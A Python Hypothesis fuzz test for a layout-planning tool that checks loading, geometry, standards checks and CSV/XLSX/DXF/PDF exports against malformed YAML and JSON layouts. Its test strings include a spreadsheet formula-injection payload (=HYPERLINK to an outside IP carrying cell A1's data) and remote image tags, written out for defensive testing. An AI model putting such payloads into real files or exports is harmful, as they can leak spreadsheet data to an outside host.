"""A fuzzer over the whole chain: layout text → loader → geometry → check → programme → sizing → exports.

Layouts are generated as YAML or JSON text, mostly well-formed but carrying hostile or careless
values: unit strings that are expressions (``9**9**9 m``), decimal commas, absurd magnitudes, NaN,
control characters and Markdown in names, spikes, keyholes, bow ties and lines for outlines, doors to
rooms that do not exist. Every example must end either with a result or with one of the project's
own errors (:class:`planner.errors.PlannerError`); any other exception fails the test, and so does an
example slower than :data:`DEADLINE` (Hypothesis' per-example deadline).

CI runs :data:`EXAMPLES` examples (200 by default); ``make fuzz`` runs 2,000 or more
(``CENTREPLAN_FUZZ_EXAMPLES``), with the PDF exports as well.
"""
from __future__ import annotations

import datetime as dt
import json
import math
import os

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from centreplan.layouts.io import loads
from centreplan.planner.errors import PlannerError
from centreplan.planner.model import GROUPS, USES

EXAMPLES = int(os.environ.get("CENTREPLAN_FUZZ_EXAMPLES", "200"))
FULL = EXAMPLES >= 1000  # the optional long run also writes the PDFs
DEADLINE = dt.timedelta(seconds=60)  # per example, generous: the test machine is shared

# Texts that load (and must then be written safely everywhere) and texts that must be refused.
SAFE_TEXT = [
    "Dortoir 1", "Sanitaires hommes", "Chambre « 1 »", "宿舍", "غرفة", "![x](http://203.0.113.9/a.png)",
    "<img src=http://203.0.113.9/b.png>", '=HYPERLINK("http://203.0.113.9/?"&A1,"x")', "+1", "-1+2",
    "@SUM(A1)", "{\\P}", "x" * 200, "0", "null", "outside", " espace ", "a;b,c\"d'e",
]
HOSTILE_TEXT = ["Dortoir\n0\nEOF", "a\x1b[2Jb", "\x00", "\u202eevil", "", "x" * 201, "\t=1"]
SAFE_NUMBER = ["2,8 m", "2,80 m", "280 cm", "2.8", "2.8 m", "3 m", "0,9"]
HOSTILE_NUMBER = ["2 8 m", "9'", "9**9**9 m", "10**400 m", "1e308 m", "1e-308 m", "-2 m", "0 m", "nan m",
                  "inf", "2,8,1", "1,234 m", "12 kg", "m", "", "2.8 m²", "(1+1) m", "0x10"]


def mostly(sane, hostile, odds: int = 25):
    """``hostile`` about once in ``odds`` draws, else ``sane``: a layout has dozens of values, so
    most layouts hold one or two hostile values and many still load and reach the exports."""
    return st.integers(0, odds - 1).flatmap(lambda k: hostile if k == odds // 2 else sane)


def numbers(low: float, high: float):
    return mostly(
        st.one_of(st.integers(min_value=math.ceil(low), max_value=math.floor(high)),
                  st.floats(min_value=low, max_value=high, allow_nan=False), st.sampled_from(SAFE_NUMBER)),
        st.one_of(st.sampled_from(HOSTILE_NUMBER),
                  st.sampled_from([0, -1, 10**15, 10**400, 1e308, -1e308, float("nan"), float("inf"), True,
                                   None, "x"])),
    )


def counts(high: int):
    return mostly(st.integers(0, high), st.sampled_from([-1, 10**15, 10**400, 1e308, "12", "1,5", 2.5, None]))


def texts():
    return mostly(st.sampled_from(SAFE_TEXT), st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=30)))


coord = mostly(st.one_of(st.integers(min_value=-2, max_value=14).map(float),
                         st.floats(min_value=-2, max_value=14, allow_nan=False, width=32)),
               st.sampled_from([1e308, -1e308, 3e7, "2,5", "1 5", float("nan"), None, 10**400]))
point = mostly(st.tuples(coord, coord).map(list), st.sampled_from([[1.0], "x y", [1, 2, 3]]))
rectangles = st.tuples(st.integers(0, 10), st.integers(0, 10), st.integers(1, 6), st.integers(1, 6)).map(
    lambda r: [[r[0], r[1]], [r[0] + r[2], r[1]], [r[0] + r[2], r[1] + r[3]], [r[0], r[1] + r[3]]])
polygons = mostly(rectangles, st.one_of(
    st.lists(point, min_size=0, max_size=8),
    st.sampled_from([  # the outlines that crashed the geometry
        [[0, 0], [4, 0], [4, 4], [4, 8], [4, 4], [0, 4]],
        [[0, 0], [4, 0], [4, 4], [2, 4], [2, 6], [2, 4], [0, 4]],
        [[0, 0], [1, 1], [2, 2]], [[0, 0], [4, 0], [0, 0], [4, 4]], [[0, 0], [4, 4], [4, 0], [0, 4]],
        [[0, 0], [0.0001, 0], [0.0001, 0.0001]],
    ])), odds=6)
IDS = ["R0", "R1", "R2", "R3", "R4", "R5"]
room_refs = mostly(st.sampled_from(IDS + ["outside"]), st.sampled_from(["nowhere", "", "x" * 100, "bad id"]))

rooms = st.fixed_dictionaries(
    {"use": mostly(st.sampled_from(USES), st.just("nope")), "polygon": polygons},
    optional={
        "name": texts(), "group": mostly(st.sampled_from(GROUPS), st.just("aliens")),
        "height": numbers(2, 4), "beds": counts(30), "level": mostly(st.sampled_from([0, 0, 1]), st.just(10**9)),
        "lockable": st.booleans(), "occupants": counts(30), "seats": counts(30),
        "households": counts(5), "notes": texts(),
        "windows": st.lists(st.fixed_dictionaries({"width": numbers(0.5, 3), "height": numbers(0.5, 3)},
                                                  optional={"openable": st.booleans()}), max_size=3),
        "fixtures": st.fixed_dictionaries({}, optional={k: counts(6) for k in
                                                        ("wc", "shower", "basin", "urinal", "phone")}),
    },
)
doors = st.fixed_dictionaries(
    {"between": st.lists(room_refs, min_size=2, max_size=2), "width": numbers(0.8, 2)},
    optional={"at": point},
)


def _with_ids(data: dict) -> dict:
    """Room ids R0, R1 … and door ids d0, d1 … (unique, so most layouts pass the reference checks)."""
    for i, r in enumerate(data["rooms"]):
        r.setdefault("id", f"R{i}")
    for i, d in enumerate(data["doors"]):
        d.setdefault("id", f"d{i}")
    return data


layouts = st.fixed_dictionaries(
    {"format": mostly(st.just("centreplan/1"), st.sampled_from(["centreplan/2", None, 1])),
     "centre": st.fixed_dictionaries({"name": texts()}, optional={
         "climate": mostly(st.sampled_from(["hot", "temperate", "cold"]), st.just("tropical")),
         "phase": st.sampled_from(["emergency", "stabilised"]), "confidential": st.booleans(),
         "location": texts(), "notes": st.one_of(texts(), st.lists(texts(), max_size=3)),
         "levels": mostly(st.sampled_from([1, 2]), st.sampled_from([0, 10**6]))}),
     "rooms": st.lists(rooms, max_size=6),
     "doors": st.lists(doors, max_size=5)},
    optional={"population": st.fixed_dictionaries({}, optional={
        k: counts(60) for k in ("men", "women", "boys", "girls", "family_persons", "staff")} | {
        "households": counts(3)})},
).map(_with_ids)


def as_text(data, kind: str) -> str | None:
    try:
        if kind == "json":
            return json.dumps(data, ensure_ascii=False)
        return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    except (ValueError, OverflowError, yaml.YAMLError):
        return None


def run_chain(text: str, name: str) -> None:
    """The whole chain on one layout text; returns when a step refuses it with a PlannerError."""
    from centreplan import exports
    from centreplan.equipment import procurement_list
    from centreplan.exports import sheets
    from centreplan.planner.cli import layout_info
    from centreplan.planner.geometry import build_plan
    from centreplan.standards import check, programme, programme_vs_layout

    try:
        centre = loads(text, name)
        plan = build_plan(centre)
        plan.problems()
        layout_info(centre)
        report = check(centre, plan=plan)
        prog = programme(centre.population, centre.centre.phase, centre.centre.climate)
        programme_vs_layout(prog, centre, plan)
        plist = procurement_list([centre], plans=[plan])
        exports.dxf_bytes(centre, report, "fr")
        exports.xlsx_bytes(centre, report, plist, "en")
        tables = sheets.all_tables(centre, report, plist, "fr")
        sheets.csv_files(tables, "fr")
        sheets.json_files(tables, report, plist)
        if FULL:
            exports.report_pdf_bytes(centre, report, "fr")
            exports.procurement_pdf_bytes([centre], plist, "en")
    except PlannerError:
        return


@settings(max_examples=EXAMPLES, deadline=DEADLINE, derandomize=not FULL,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(layouts, st.sampled_from(["yaml", "json"]))
def test_fuzz_the_chain_raises_only_our_errors(data, kind):
    text = as_text(data, kind)
    if text is not None:
        run_chain(text, f"fuzz.{kind}")


@settings(max_examples=max(50, EXAMPLES // 2), deadline=DEADLINE, derandomize=not FULL)
@given(st.text(max_size=400), st.sampled_from(["fuzz.yaml", "fuzz.json"]))
def test_fuzz_any_text_is_read_or_refused(text, name):
    try:
        loads(text, name)
    except PlannerError:
        pass
